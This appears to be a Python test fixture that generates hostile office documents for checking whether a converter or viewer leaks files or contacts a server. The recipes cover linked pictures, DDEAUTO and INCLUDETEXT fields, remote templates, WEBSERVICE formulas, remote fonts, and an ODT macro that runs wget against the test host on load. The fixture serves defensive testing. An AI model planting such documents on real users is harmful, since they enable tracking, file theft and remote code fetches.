"""Office files that reach for other files, other programs and the network; `{file}` and `{place}` are where to."""

from typing import NamedTuple

from tests.worlds.files.outputs import zipped
from tests.worlds.files.outputs_office import WORDS, changed, docx, drawing, field, pptx, xlsx

_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
_DRAWN = drawing('r:link="rIdX"')
_END = "</Relationships>"


class Hostile(NamedTuple):
    """One file: what it tries, its ending, and its bytes."""

    name: str
    kind: str
    data: bytes


def hostile_files(*, text: str, picture: str, page: str, place: str) -> tuple[Hostile, ...]:
    """Files that reach for a local text, picture and document (addresses), and for a server at `place` (host:port)."""
    web = f"http://{place}"
    return (
        *_words(text, picture, page, web),
        *_slides(picture, web),
        *_sheets(text, picture, web),
        *_open_documents(text, picture, page, web),
        *_others(text, picture, web),
    )


def _relations(kind: str, target: str) -> str:
    return (
        f'<Relationships xmlns="{_PACKAGE}"><Relationship Id="rIdX" Type="{_REL}/{kind}" Target="{target}" '
        'TargetMode="External"/></Relationships>'
    )


def _word(body: str, kind: str = "", target: str = "", extra: dict[str, bytes | str] | None = None) -> bytes:
    rels = {"word/_rels/document.xml.rels": _relations(kind, target)} if kind else {}
    return docx("Visible words", body, extra={**rels, **(extra or {})})


def _words(text: str, picture: str, page: str, web: str) -> tuple[Hostile, ...]:
    vml = (
        '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" style="width:200pt;height:200pt">'
        '<v:imagedata r:id="rIdX"/></v:shape></w:pict></w:r></w:p>'
    )
    ole = (
        '<w:p><w:r><w:object><v:shape xmlns:v="urn:schemas-microsoft-com:vml" id="s" style="width:99pt;height:99pt"/>'
        '<o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Link" ProgID="Word.Document.12" '
        'ShapeID="s" DrawAspect="Content" r:id="rIdX" UpdateMode="Always"/></w:object></w:r></w:p>'
    )
    template: dict[str, bytes | str] = {
        "word/settings.xml": f'<w:settings {WORDS} xmlns:r="{_REL}"><w:attachedTemplate r:id="rIdX"/></w:settings>',
        "word/_rels/settings.xml.rels": _relations("attachedTemplate", f"{web}/template.dotm"),
    }
    chunk = '<w:altChunk r:id="rIdX"/>'
    vector = (
        '<svg xmlns="http://www.w3.org/2000/svg" width="200" height="200">'
        f'<image href="{picture}" width="200" height="200"/></svg>'
    )
    return (
        Hostile("a linked picture on this machine", "docx", _word(_DRAWN, "image", picture)),
        Hostile("a linked picture on a server", "docx", _word(_DRAWN, "image", f"{web}/picture.png")),
        Hostile("a linked picture in VML", "docx", _word(vml, "image", picture)),
        Hostile("a field that includes a picture", "docx", _word(field(f'INCLUDEPICTURE "{picture}" \\d'))),
        Hostile("a field that includes a text", "docx", _word(field(f'INCLUDETEXT "{text}"'))),
        Hostile("a field that asks another program", "docx", _word(field(f'DDEAUTO soffice "{text}" "x"'))),
        Hostile("a linked object", "docx", _word(ole, "oleObject", page)),
        Hostile("a template on a server", "docx", _word("<w:p/>", extra=template)),
        Hostile("a chunk from elsewhere", "docx", _word(chunk, "aFChunk", text)),
        Hostile("a part of a master document", "docx", _word('<w:subDoc r:id="rIdX"/>', "subDocument", page)),
        Hostile("a drawing that links", "docx", _word("<w:p/>", extra={"word/media/a.svg": vector})),
        Hostile("a mail merge", "docx", _word(field(f'DATABASE \\d "{text}"'))),
    )


def _slides(picture: str, web: str) -> tuple[Hostile, ...]:
    shape = (
        '<p:pic><p:nvPicPr><p:cNvPr id="9" name="p"/><p:cNvPicPr/><p:nvPr>{media}</p:nvPr></p:nvPicPr>'
        '<p:blipFill><a:blip xmlns:r="'
        + _REL
        + '" r:link="rIdX"/><a:stretch><a:fillRect/></a:stretch></p:blipFill>'
        '<p:spPr><a:xfrm><a:off x="900000" y="900000"/><a:ext cx="3000000" cy="3000000"/></a:xfrm>'
        '<a:prstGeom prst="rect"><a:avLst/></a:prstGeom></p:spPr></p:pic></p:spTree>'
    )
    film = f'<a:videoFile xmlns:r="{_REL}" r:link="rIdX"/>'

    def deck(media: str, kind: str, target: str) -> bytes:
        link = f'<Relationship Id="rIdX" Type="{_REL}/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
        changes = {
            "ppt/slides/slide1.xml": ("</p:spTree>", shape.replace("{media}", media)),
            "ppt/slides/_rels/slide1.xml.rels": ("</Relationships>", link),
        }
        return changed(pptx("Visible words", "line"), changes)

    return (
        Hostile("a slide with a linked picture", "pptx", deck("", "image", picture)),
        Hostile("a slide with a picture on a server", "pptx", deck("", "image", f"{web}/slide.png")),
        Hostile("a slide with a film", "pptx", deck(film, "video", f"{web}/film.mp4")),
    )


def _sheets(text: str, picture: str, web: str) -> tuple[Hostile, ...]:
    def book(formula: str) -> bytes:
        return xlsx([["Visible words", formula]])

    outside = (
        '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink '
        f'ddeService="soffice" ddeTopic="{text}"><ddeItems><ddeItem name="x" advise="1"/></ddeItems>'
        "</ddeLink></externalLink>"
    )
    linked = changed(
        xlsx([["Visible words"]]),
        {
            "xl/workbook.xml": (
                "</sheets>",
                f'</sheets><externalReferences><externalReference xmlns:r="{_REL}" r:id="rIdX"/></externalReferences>',
            ),
            "xl/_rels/workbook.xml.rels": (
                _END,
                f'<Relationship Id="rIdX" Type="{_REL}/externalLink" Target="externalLinks/externalLink1.xml"/>{_END}',
            ),
        },
        {"xl/externalLinks/externalLink1.xml": outside},
    )
    return (
        Hostile("a formula that asks a server", "xlsx", book(f'=_xlfn.WEBSERVICE("{web}/sheet")')),
        Hostile("a formula that reads a file", "xlsx", book(f"='{text}'#$Sheet1.A1")),
        Hostile("a formula that tells the path", "xlsx", book('=CELL("filename")')),
        Hostile("a link to another program", "xlsx", linked),
        Hostile("a formula with a picture", "xlsx", book(f'=_xlfn.IMAGE("{picture}")')),
    )


_ODF = "urn:oasis:names:tc:opendocument:xmlns:"
_SPACES = (
    f'xmlns:office="{_ODF}office:1.0" xmlns:text="{_ODF}text:1.0" xmlns:table="{_ODF}table:1.0" '
    f'xmlns:draw="{_ODF}drawing:1.0" xmlns:script="{_ODF}script:1.0" xmlns:svg="{_ODF}svg-compatible:1.0" '
    f'xmlns:style="{_ODF}style:1.0" xmlns:fo="{_ODF}xsl-fo-compatible:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" '
    f'xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:meta="{_ODF}meta:1.0" xmlns:of="{_ODF}of:1.2" '
    f'xmlns:presentation="{_ODF}presentation:1.0"'
)


def open_document(
    kind: str, body: str, *, head: str = "", extra: dict[str, bytes | str] | None = None
) -> bytes:
    """An ODT, ODS or ODP of these elements."""
    names = {"odt": "text", "ods": "spreadsheet", "odp": "presentation"}
    media_type = f"application/vnd.oasis.opendocument.{names[kind]}"
    content = (
        f'<office:document-content {_SPACES} office:version="1.3">{head}<office:body><office:{names[kind]}>{body}'
        f"</office:{names[kind]}></office:body></office:document-content>"
    )
    entries = "".join(
        f'<manifest:file-entry manifest:full-path="{name}" manifest:media-type="text/xml"/>'
        for name in ("content.xml", *(extra or {}))
    )
    manifest = (
        f'<manifest:manifest xmlns:manifest="{_ODF}manifest:1.0" manifest:version="1.3">'
        f'<manifest:file-entry manifest:full-path="/" manifest:media-type="{media_type}"/>{entries}</manifest:manifest>'
    )
    return zipped(
        {"mimetype": media_type, "content.xml": content, "META-INF/manifest.xml": manifest, **(extra or {})}
    )


def _open_documents(text: str, picture: str, page: str, web: str) -> tuple[Hostile, ...]:
    words = "<text:p>Visible words</text:p>"
    image = (
        '<text:p><draw:frame svg:width="5cm" svg:height="5cm" text:anchor-type="as-char"><draw:image '
        'xlink:href="{target}" xlink:type="simple" xlink:actuate="onLoad"/></draw:frame></text:p>'
    )
    section = (
        f'<text:section text:name="s"><text:section-source xlink:href="{text}" xlink:type="simple"/>'
        "<text:p>old</text:p></text:section>"
    )
    frame = (
        '<text:p><draw:frame svg:width="9cm" svg:height="9cm"><draw:floating-frame '
        f'xlink:href="{web}/frame.html"/></draw:frame></text:p>'
    )
    macro = (
        '<office:scripts><office:event-listeners><script:event-listener script:language="ooo:script" '
        'script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.M.Main?language=Basic&amp;'
        'location=document"/></office:event-listeners></office:scripts>'
    )
    basic: dict[str, bytes | str] = {
        "Basic/script-lc.xml": '<library:libraries xmlns:library="http://openoffice.org/2000/library" '
        'xmlns:xlink="http://www.w3.org/1999/xlink"><library:library library:name="Standard" library:link="false"/>'
        "</library:libraries>",
        "Basic/Standard/script-lb.xml": '<library:library xmlns:library="http://openoffice.org/2000/library" '
        'library:name="Standard" library:readonly="false"><library:element library:name="M"/></library:library>',
        "Basic/Standard/M.xml": '<script:module xmlns:script="http://openoffice.org/2000/script" script:name="M" '
        f'script:language="StarBasic">Sub Main\nShell("/usr/bin/wget {web}/macro")\nEnd Sub</script:module>',
    }
    dde = (
        '<text:dde-connection-decls><text:dde-connection-decl office:name="d" office:dde-application="soffice" '
        f'office:dde-topic="{text}" office:dde-item="x" office:automatic-update="true"/></text:dde-connection-decls>'
        '<text:p><text:dde-connection text:connection-name="d">old</text:dde-connection></text:p>'
    )
    font = (
        '<office:font-face-decls><style:font-face style:name="F" svg:font-family="F"><svg:font-face-src>'
        f'<svg:font-face-uri xlink:href="{web}/font.ttf" xlink:type="simple"/></svg:font-face-src></style:font-face>'
        "</office:font-face-decls>"
    )
    cells = (
        "<table:table table:name='T'>{source}<table:table-row><table:table-cell{formula}><text:p>Visible words</text:p>"
        "</table:table-cell><table:table-cell><text:p>Visible</text:p></table:table-cell></table:table-row></table:table>"
    )
    source = (
        f'<table:table-source xlink:href="{page}" table:table-name="Data" table:mode="copy-results-only"/>'
    )
    formula = f" table:formula='of:=WEBSERVICE(\"{web}/ods\")' office:value-type='string'"
    odt = {
        "with a linked picture": words + image.format(target=picture),
        "with a picture on a server": words + image.format(target=f"{web}/odt.png"),
        "with a section from a file": words + section,
        "with a frame": words + frame,
        "that asks another program": dde + words,
    }
    ods = {
        "linked to a table": cells.format(source=source, formula=""),
        "that asks a server": cells.format(source="", formula=formula),
    }
    return (
        *(Hostile(f"an ODT {name}", "odt", open_document("odt", body)) for name, body in odt.items()),
        Hostile("an ODT with a macro", "odt", open_document("odt", words, head=macro, extra=basic)),
        Hostile("an ODT with a font on a server", "odt", open_document("odt", words, head=font)),
        *(Hostile(f"an ODS {name}", "ods", open_document("ods", body)) for name, body in ods.items()),
    )


def _others(text: str, picture: str, web: str) -> tuple[Hostile, ...]:
    rich = '{\\rtf1\\ansi Visible words {\\field{\\*\\fldinst INCLUDE%s "%s" \\\\d}{\\fldrslt old}}}'
    return (
        Hostile("an RTF with a linked picture", "rtf", (rich % ("PICTURE", picture)).encode()),
        Hostile("an RTF with a picture on a server", "rtf", (rich % ("PICTURE", f"{web}/rtf.png")).encode()),
        Hostile("an RTF with a text from a file", "rtf", (rich % ("TEXT", text)).encode()),
    )
